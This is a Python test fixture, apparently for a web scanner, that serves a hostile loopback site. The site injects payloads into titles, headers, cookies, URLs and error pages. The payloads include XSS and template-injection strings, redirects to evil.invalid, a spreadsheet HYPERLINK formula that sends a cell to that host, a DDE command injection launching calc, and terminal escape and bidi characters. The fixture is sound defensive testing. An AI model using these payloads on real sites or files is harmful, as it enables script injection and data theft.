"""A site that writes script into every field that a scanner might show: titles, headers, cookies, addresses, names of
parameters and files, technologies, error pages. What runs anywhere notes so in a global (MARKER), opens a dialog or
asks a foreign host.

Serves on loopback in threads of its own, the standard library alone.
"""

from __future__ import annotations

import contextlib
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qsl, quote, urlsplit

MARKER = "vedette_was_here"
EVIL = "http://evil.invalid"
RUN = f"window.{MARKER}=1;alert(1)"

PAYLOADS = (
    f"<script>{RUN}</script>",
    f'"><img src={EVIL}/p.png onerror="{RUN}">',
    f"'\"--></title></textarea></pre></style></script><svg onload={RUN.replace(' ', '')}>",
    f'</code><iframe srcdoc="<script>parent.{MARKER}=1</script>"></iframe>',
    f"javascript:{RUN}//",
    f'<base href="{EVIL}/"><link rel=stylesheet href={EVIL}/s.css><meta http-equiv=refresh content="0;url={EVIL}">',
    f'<form action={EVIL}><button formaction="javascript:{RUN}">Sign in again</button></form>',
    f'<div hx-get="{EVIL}/h" hx-trigger="load" hx-on::load="{RUN}" data-href="javascript:{RUN}" data-peek="{EVIL}">',
    f"{{{{ ''.__class__ }}}}{{% load static %}}${{{RUN}}}<%= {RUN} %>#{{{RUN}}}",
    f'=HYPERLINK("{EVIL}/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[2J\x1b]0;title\x07 \u202eexe.txt\u202c \u2066\u200b\ufeff",
)
"""Each breaks out of another place: text, attributes, comments, templates, cells of a spreadsheet, terminals."""

ALL = " ".join(PAYLOADS)
SHORT = PAYLOADS[1]
_SAFE_IN_HEADERS = [text for text in PAYLOADS if text.isprintable() and text.isascii()]


def page(origin: str, given: str) -> bytes:
    """A page with payloads around and in it; what it was `given` comes back as it came. Its links are whole
    addresses, as one of the payloads changes where others lead."""
    links = "".join(f'<a href="{origin}{path}">a page</a>' for path in paths())
    form = f'<form action="{origin}/search" method="get"><input name="q"><input name="{quote(SHORT)}" value="1"></form>'
    return (
        f"<!doctype html><html><head><title>Page</title><meta name=generator content='WordPress 6 {SHORT}'></head>"
        f"<body>{links}{form}<p>{given}</p>{ALL}</body></html>"
    ).encode()


def paths() -> list[str]:
    """Addresses whose every part is a payload."""
    odd = quote(SHORT, safe="")
    return [f"/files/{odd}.html", f"/search?q=1&{odd}={odd}", f"/{odd}/{odd}", "/error?of=1", "/search?q=tea"]


class _Handler(BaseHTTPRequestHandler):
    """Answers every path; `/search` writes its parameters as they came, `/error` fails with a trace."""

    protocol_version = "HTTP/1.1"
    served: dict[str, str]

    def version_string(self) -> str:
        return f"nginx/1.25 {SHORT}"

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base's own name
        """Says nothing."""

    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        given = "".join(value for _, value in parse_qsl(parts.query, keep_blank_values=True))
        if parts.path.lstrip("/") in self.served:
            self._answer(200, self.served[parts.path.lstrip("/")].encode(), "text/plain")
        elif parts.path == "/error":
            trace = f'Traceback (most recent call last):\n  File "/srv/{SHORT}.py", line 7\nValueError: {given} {ALL}'
            self._answer(500, trace.encode(), "text/plain; charset=utf-8")
        else:
            origin = f"http://{self.headers.get('Host', '')}"
            self._answer(200, page(origin, given if parts.path == "/search" else ALL), "text/html")

    do_POST = do_HEAD = do_GET

    def _answer(self, status: int, body: bytes, kind: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("X-Powered-By", f"PHP/8.1 {SHORT}")
        for number, text in enumerate(_SAFE_IN_HEADERS):
            self.send_header(f"X-Note-{number}", text)
            self.send_header("Set-Cookie", f"{quote(text, safe='')[:40]}={quote(text)[:60]}; Path=/")
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)


@contextlib.contextmanager
def serving(served: dict[str, str] | None = None) -> Iterator[str]:
    """The site's address while it runs; `served` are files with harmless content, by name."""
    handler = type("Handler", (_Handler,), {"served": served or {}})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
